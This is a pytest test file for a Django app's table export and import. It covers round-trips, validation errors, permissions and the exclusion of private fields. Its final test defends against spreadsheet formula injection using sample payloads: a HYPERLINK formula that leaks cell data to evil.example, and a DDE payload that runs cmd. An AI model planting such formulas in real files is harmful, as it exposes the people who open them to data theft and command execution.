"""Tables out and back in (udsyn.interop.tabular, ``udsyn export``, ``udsyn import``) and the Data Package."""

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import frictionless
import openpyxl
import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.utils import translation

from tests.seeds import once_seeded
from udsyn.core.exchange.importer import ImportResult
from udsyn.engagements.models import Engagement, EngagementLink, Funding, Representative
from udsyn.interop import exports, tabular
from udsyn.organisation.models import Municipality, Person, Unit

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    with translation.override("en"):
        yield


def _import(filename: str, content: bytes, **kwargs: Any) -> ImportResult:
    return tabular.import_tables(tabular.read(filename, content, kwargs.pop("table", "")), **kwargs)


def _changes(result: ImportResult) -> list[tuple[str, int, int, int]]:
    return [(label, created, updated, deleted) for label, created, updated, _same, deleted in result.summary_rows
            if created or updated or deleted]


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _csv_bytes(rows: list[dict[str, str]], columns: list[str] | None = None) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns or list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


@pytest.fixture(scope="module")
def seeded(django_db_setup: None, django_db_blocker: Any) -> dict[str, Any]:
    """Every export of the demo seeds, and what re-importing each of them (dry run) would change."""
    def work() -> dict[str, Any]:
        made: dict[str, Any] = {"reimport": {}}
        for fmt in tabular.FORMATS:
            content, extension = tabular.export(fmt, internal=True)
            made["reimport"][fmt] = _import(f"all.{extension}", content, dry_run=True)
        open_csv, _ext = tabular.export("csv")
        made["reimport"]["open csv"] = _import("open.zip", open_csv, dry_run=True)
        copenhagen = Municipality.objects.get(code="0101")
        made["datapackage"] = exports.datapackage(copenhagen)
        made["datapackage_all"] = exports.datapackage()
        made["engagements"] = Engagement.objects.filter(municipality=copenhagen).count()
        return made

    return once_seeded(django_db_blocker, work)


@pytest.mark.parametrize("fmt", [*tabular.FORMATS, "open csv"])
def test_every_export_of_the_seeds_reimports_to_an_identical_state(seeded: dict[str, Any], fmt: str) -> None:
    result = seeded["reimport"][fmt]
    assert result.ok, [str(p) for p in result.problems][:5]
    assert _changes(result) == []
    unchanged = {label: same for label, _c, _u, same, _d in result.summary_rows}
    assert unchanged["Engagements"] >= seeded["engagements"]


@pytest.mark.parametrize("which", ["datapackage", "datapackage_all"])
def test_data_package_passes_frictionless_validate(seeded: dict[str, Any], which: str, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    with zipfile.ZipFile(io.BytesIO(seeded[which])) as archive:
        archive.extractall(tmp_path)
        names = archive.namelist()
    descriptor = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert all(not Path(resource["path"]).is_absolute() for resource in descriptor["resources"])
    assert {"engagements", "funding", "cities"} <= {resource["name"] for resource in descriptor["resources"]}
    assert "data/people.csv" not in names and "data/representatives.csv" not in names
    monkeypatch.chdir(tmp_path)
    report = frictionless.validate("datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    engagements = _csv_rows((tmp_path / "data" / "engagements.csv").read_bytes())
    assert any(row["title"] == "EUROCITIES" for row in engagements)
    assert "notes" not in engagements[0] and "contacts" not in engagements[0]


@pytest.fixture
def registry(eurocities: Engagement, beijing: Engagement, atelier: Funding, person: Person) -> dict[str, Any]:
    eurocities.contacts.add(person)
    Representative.objects.create(engagement=eurocities, person=person, role="bestyrelsesmedlem")
    Representative.objects.create(
        engagement=eurocities, person=Person.objects.create(municipality=eurocities.municipality, name="Anna Berg"),
        role="suppleant")
    EngagementLink.objects.create(engagement=eurocities, url="https://eurocities.eu/", title="EUROCITIES")
    return {"eurocities": eurocities, "beijing": beijing, "atelier": atelier}


def test_a_csv_exported_edited_and_reimported_changes_exactly_what_was_edited(
        registry: dict[str, Any], coordinator: User) -> None:
    before = tabular.export("csv", internal=True)[0]
    content = exports.export("csv", internal=True, table="engagements")
    rows = _csv_rows(content)
    eurocities = next(row for row in rows if row["title"] == "EUROCITIES")
    eurocities["annual_fee"] = "260000"
    health = next(row for row in rows if row["title"] == "Sundhedssamarbejde med Beijing")
    health["title"] = "Sundhedsaftale med Beijing"  # renamed: the row's id says which record

    result = _import("engagements.csv", _csv_bytes(rows), user=coordinator)

    assert result.ok, [str(p) for p in result.problems]
    assert _changes(result) == [("Engagements", 0, 2, 0)]
    assert Engagement.objects.get(title="EUROCITIES").annual_fee == Decimal("260000")
    assert Engagement.objects.get(pk=int(health["id"])).title == "Sundhedsaftale med Beijing"
    after = tabular.export("csv", internal=True)[0]
    differences = _differing_cells(before, after)
    assert differences == {
        ("engagements.csv", "EUROCITIES", "annual_fee"),
        ("engagements.csv", "Sundhedsaftale med Beijing", "title"),
    }
    latest = Engagement.history.filter(title="EUROCITIES").latest("history_date")  # type: ignore[attr-defined]
    assert latest.history_user == coordinator and latest.history_change_reason == "Import from engagements.csv"


def _differing_cells(before: bytes, after: bytes) -> set[tuple[str, str, str]]:
    """(file, row's title or name, column) of every cell that differs between two zips of CSV files."""
    def tables(content: bytes) -> dict[str, dict[str, dict[str, str]]]:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return {name: {row.get("id") or str(number): row
                           for number, row in enumerate(_csv_rows(archive.read(name)))}
                    for name in archive.namelist()}

    old, new = tables(before), tables(after)
    assert old.keys() == new.keys()
    found = set()
    for name in old:
        assert old[name].keys() == new[name].keys(), name
        for key, row in new[name].items():
            for column, value in row.items():
                if old[name][key][column] != value:
                    found.add((name, row.get("title") or row.get("name") or key, column))
    return found


def test_every_problem_is_reported_with_row_and_column_and_nothing_is_written(registry: dict[str, Any]) -> None:
    rows = _csv_rows(exports.export("csv", internal=True, table="engagements"))
    rows[0]["lead"] = "XYZ"
    rows[1]["start"] = "2019-13"
    rows[2]["annual_fee"] = "250.000,00"
    rows[3]["title"] = "Ny aftale"  # valid on its own: still not written, since other rows are wrong
    history = Engagement.history.count()  # type: ignore[attr-defined]

    result = _import("engagements.csv", _csv_bytes(rows))

    problems = [(p.line, p.field) for p in result.problems]
    assert problems == [(2, "lead"), (3, "start"), (4, "annual_fee")]
    assert all(p.filename == "engagements.csv" for p in result.problems)
    assert str(result.problems[0]).startswith("row 2, engagements")
    assert not Engagement.objects.filter(title="Ny aftale").exists()
    assert Engagement.history.count() == history  # type: ignore[attr-defined]


def test_unknown_columns_and_tables_are_refused(registry: dict[str, Any]) -> None:
    rows = _csv_rows(exports.export("csv", table="engagements"))
    for row in rows:
        row["budget"] = "1"
    result = _import("engagements.csv", _csv_bytes(rows))
    assert [(p.line, p.field) for p in result.problems] == [(1, "budget")]
    assert 'Unknown column "budget"' in str(result.problems[0])

    result = _import("budgets.csv", _csv_bytes(rows))
    assert '"budgets" is not a table' in str(result.problems[0])


def test_a_nested_table_replaces_the_records_of_each_engagement_it_names(registry: dict[str, Any]) -> None:
    rows = _csv_rows(exports.export("csv", internal=True, table="representatives"))
    assert [(row["engagement"], row["person"]) for row in rows] == [
        ("EUROCITIES", "Anna Berg"), ("EUROCITIES", "Jes Vissing Tiedemann")]
    result = _import("representatives.csv", _csv_bytes(rows[1:]))
    assert result.ok and _changes(result) == [("Representatives", 0, 0, 1)]
    assert list(registry["eurocities"].representatives.values_list("person__name", flat=True)) == [
        "Jes Vissing Tiedemann"]

    units = [{"municipality": "0101", "department": "TMF", "name": "Byens Udvikling", "international_role": ""}]
    assert _import("units.csv", _csv_bytes(units)).ok
    assert Unit.objects.get(name="Byens Udvikling").department.code == "TMF"
    wrong = [{**units[0], "department": "XYZ"}]
    assert [(p.line, p.field) for p in _import("units.csv", _csv_bytes(wrong)).problems] == [(2, "code")]


def test_a_workbook_with_every_sheet_round_trips_and_a_deleted_link_row_is_deleted(registry: dict[str, Any]) -> None:
    import openpyxl

    content = exports.export("xlsx", internal=True)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert [sheet.title for sheet in workbook.worksheets] == [t.name for t in tabular.tables()]
    workbook["links"].delete_rows(2)
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = _import("udsyn.xlsx", buffer.getvalue())
    assert result.ok, [str(p) for p in result.problems]
    assert _changes(result) == [("Links", 0, 0, 1)]


def test_open_exports_hold_no_people_notes_or_internal_fields(registry: dict[str, Any]) -> None:
    eurocities = registry["eurocities"]
    eurocities.notes = "INTERNAL-NOTE-123"
    eurocities.source_reference = "§4.1.3 of the draft"
    eurocities.internal_fields = ["annual_fee"]
    eurocities.annual_fee = Decimal("987654")
    eurocities.save()
    Person.objects.filter(name="Jes Vissing Tiedemann").update(email="secret.person@example.dk")
    secrets = ("INTERNAL-NOTE-123", "§4.1.3", "987654", "secret.person@example.dk", "Jes Vissing", "Anna Berg")

    for fmt in tabular.FORMATS:
        content, extension = tabular.export(fmt)
        text = _all_text(content, extension)
        for secret in secrets:
            assert secret not in text, f"{secret!r} in the open {fmt} export"
    text = _all_text(exports.datapackage(), "zip")
    for secret in secrets:
        assert secret not in text, f"{secret!r} in the data package"
    assert "987654" in _all_text(tabular.export("json", internal=True)[0], "json")

    # Re-importing an open export leaves what it left out as it was.
    result = _import("open.json", tabular.export("json")[0])
    assert result.ok and _changes(result) == []
    eurocities.refresh_from_db()
    assert eurocities.annual_fee == Decimal("987654") and eurocities.notes == "INTERNAL-NOTE-123"
    assert list(eurocities.contacts.values_list("name", flat=True)) == ["Jes Vissing Tiedemann"]


def _all_text(content: bytes, extension: str) -> str:
    if extension == "zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return "\n".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    if extension == "xlsx":
        import openpyxl

        workbook = openpyxl.load_workbook(io.BytesIO(content))
        return "\n".join(str(value) for sheet in workbook for row in sheet.iter_rows(values_only=True)
                         for value in row if value is not None)
    return content.decode("utf-8")


def test_an_id_that_is_not_there_or_collides_is_reported(registry: dict[str, Any]) -> None:
    rows = _csv_rows(exports.export("csv", table="engagements"))
    rows[0]["id"] = "999999"
    rows[1]["title"] = rows[2]["title"]
    rows[3]["id"] = "x1"
    problems = [(p.line, p.field) for p in _import("engagements.csv", _csv_bytes(rows)).problems]
    assert problems == [(5, "id")]  # a malformed id is found before anything is looked up
    rows[3]["id"] = ""
    problems = [(p.line, p.field) for p in _import("engagements.csv", _csv_bytes(rows)).problems]
    assert (2, "id") in problems and (3, "title") in problems


def test_udsyn_export_and_import_commands(registry: dict[str, Any], tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "engagements.csv"
    call_command("export", format="csv", output=path, table="engagements", municipality="0101")
    rows = _csv_rows(path.read_bytes())
    assert {row["municipality"] for row in rows} == {"0101"}
    rows[0]["status"] = "paused"
    path.write_bytes(_csv_bytes(rows))
    with pytest.raises(CommandError, match="1 problem"):
        call_command("import", str(path))
    assert '"paused" is not one of' in capsys.readouterr().err

    with pytest.raises(CommandError, match="No municipality with code 9999"):
        call_command("export", format="json", output=tmp_path / "x.json", municipality="9999")
    with pytest.raises(CommandError, match='No table "people"'):
        call_command("export", format="csv", output=tmp_path / "p.csv", table="people")


def test_json_rows_may_be_given_as_a_plain_list_with_the_table_named(registry: dict[str, Any],
                                                                      make_engagement: Callable[..., Any]) -> None:
    rows = [{"municipality": "0101", "title": "Ny JSON-aftale", "kind": "collaboration", "lead": "KFF",
             "themes": ["Klima"], "start": "2024"}]
    result = _import("rows.json", json.dumps(rows).encode(), table="engagements")
    assert result.ok, [str(p) for p in result.problems]
    created = Engagement.objects.get(title="Ny JSON-aftale")
    assert created.start_date is not None and created.start_date.isoformat() == "2024-01-01"
    assert [t.name for t in created.themes.all()] == ["Klima"]


def test_a_coordinator_checks_then_imports_a_spreadsheet_on_the_web(
        registry: dict[str, Any], coordinator: User, login: Callable[[User], Any]) -> None:
    client = login(coordinator)
    rows = _csv_rows(exports.export("csv", internal=True, table="engagements"))
    next(row for row in rows if row["title"] == "EUROCITIES")["annual_fee"] = "270000"
    upload = io.BytesIO(_csv_bytes(rows))
    upload.name = "engagements.csv"

    response = client.post("/en/import/tables/", {"file": upload, "table": ""})
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    assert "The file is valid" in page
    assert Engagement.objects.get(title="EUROCITIES").annual_fee == Decimal("250000")  # only checked so far

    client.post(response["Location"], {"action": "import"})
    assert Engagement.objects.get(title="EUROCITIES").annual_fee == Decimal("270000")
    assert "The file is imported" in client.get(response["Location"]).content.decode()
    latest = Engagement.history.filter(title="EUROCITIES").latest("history_date")  # type: ignore[attr-defined]
    assert latest.history_user == coordinator


def test_a_file_with_problems_is_kept_and_its_problems_listed_by_row_and_column(
        registry: dict[str, Any], coordinator: User, login: Callable[[User], Any]) -> None:
    client = login(coordinator)
    rows = _csv_rows(exports.export("csv", table="engagements"))
    rows[1]["kind"] = "friendship"
    upload = io.BytesIO(_csv_bytes(rows))
    upload.name = "my engagements.csv"
    response = client.post("/en/import/tables/", {"file": upload, "table": "engagements"})
    page = client.get(response["Location"]).content.decode()
    assert "The file has 1 problem. Nothing was written." in page
    assert "<code>kind</code>" in page and "friendship" in page and ">3</td>" in page
    assert "my engagements.csv" in client.get("/en/import/tables/").content.decode()  # kept, listed

    bad = io.BytesIO(b"\x00\x01 not a workbook")
    bad.name = "budget.xlsx"
    response = client.post("/en/import/tables/", {"file": bad})
    assert response.status_code == 400 and "is not an Excel workbook" in response.content.decode()


def test_only_coordinators_import_and_only_their_own_municipality(
        registry: dict[str, Any], coordinator: User, tmf_editor: User, reader: User, odense: Municipality,
        login: Callable[[User], Any]) -> None:
    for user in (tmf_editor, reader):
        assert login(user).get("/en/import/tables/").status_code == 403
    assert login(coordinator).get("/en/import/tables/").status_code == 200
    rows = [{"municipality": "0461", "code": "BKF", "name": "By- og Kulturforvaltningen"}]
    upload = io.BytesIO(_csv_bytes(rows))
    upload.name = "departments.csv"
    client = login(coordinator)
    response = client.post("/en/import/tables/", {"file": upload})
    page = client.get(response["Location"]).content.decode()
    assert "only your own municipality" in page and "0461" in page
    assert not odense.departments.exists()


def test_exports_on_the_web_open_to_staff_internal_to_coordinators(
        registry: dict[str, Any], coordinator: User, tmf_editor: User, login: Callable[[User], Any]) -> None:
    Person.objects.filter(name="Jes Vissing Tiedemann").update(email="secret.person@example.dk")
    response = login(coordinator).get("/export/", {"format": "json", "internal": "1"})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    assert "secret.person@example.dk" in response.content.decode()
    assert login(tmf_editor).get("/export/", {"format": "json", "internal": "1"}).status_code == 403
    response = login(tmf_editor).get("/export/", {"format": "xlsx"})
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxml")
    assert login(coordinator).get("/export/", {"format": "pdf"}).status_code == 400


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json", "datapackage", "popolo", "ics"])
def test_public_downloads_hold_no_people_or_internal_notes(registry: dict[str, Any], client: Any, fmt: str) -> None:
    eurocities = registry["eurocities"]
    eurocities.notes = "INTERNAL-NOTE-123"
    eurocities.save()
    Person.objects.filter(name="Jes Vissing Tiedemann").update(email="secret.person@example.dk")
    response = client.get(f"/public/0101/data/{fmt}/")
    assert response.status_code == 200
    extension = {"datapackage": "zip", "csv": "zip"}.get(fmt, fmt)
    text = _all_text(response.content, extension)
    assert "EUROCITIES" in text or fmt == "ics"
    for secret in ("INTERNAL-NOTE-123", "secret.person@example.dk", "Jes Vissing"):
        assert secret not in text


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\tTAB=1", "\r=CR")


def test_no_cell_of_an_open_or_internal_spreadsheet_is_a_formula_and_the_values_come_back_whole(
        registry: dict[str, Any], client: Any, coordinator: User, login: Callable[[User], Any]) -> None:
    """Issue 17: an editor could plant =HYPERLINK(...) or @SUM(...) in a record, and the public CSV and XLSX
    downloads wrote it as given (in XLSX as a live formula). Every such cell now starts with an apostrophe
    (OWASP), and an export read back gives the values as they were."""
    eurocities = registry["eurocities"]
    eurocities.description = FORMULAS[0]
    eurocities.save()
    links = [EngagementLink.objects.create(engagement=eurocities, url=f"https://example.org/{i}", title=formula)
             for i, formula in enumerate(FORMULAS)]
    public_xlsx = client.get("/public/0101/data/xlsx/").content
    public_csv = client.get("/public/0101/data/csv/").content
    internal_xlsx = login(coordinator).get("/export/", {"format": "xlsx", "internal": "1"}).content
    internal_csv = login(coordinator).get("/export/", {"format": "csv", "internal": "1"}).content

    for content in (public_xlsx, internal_xlsx):
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert all("'" + formula in texts for formula in FORMULAS)
        assert not [text for text in texts if text.startswith(tabular.FORMULA_START)]
    for content in (public_csv, internal_csv):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            cells = [value for name in archive.namelist()
                     for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
                     for value in row]
        assert all("'" + formula in cells for formula in FORMULAS)
        assert not [value for value in cells if value.startswith(tabular.FORMULA_START)]

    # What the internal export holds comes back as it was, in both formats: re-importing it would change
    # nothing but the tab and carriage return before two titles (the importer trims what surrounds a text).
    for name, content in (("all.xlsx", internal_xlsx), ("all.zip", internal_csv)):
        result = _import(name, content, user=coordinator, dry_run=True)
        assert result.ok, result.problems
        assert sorted((change.field, change.new) for change in result.changes) == [
            ("title", "=CR"), ("title", "TAB=1")]
    assert {link.title for link in EngagementLink.objects.filter(pk__in=[link.pk for link in links])} == set(FORMULAS)
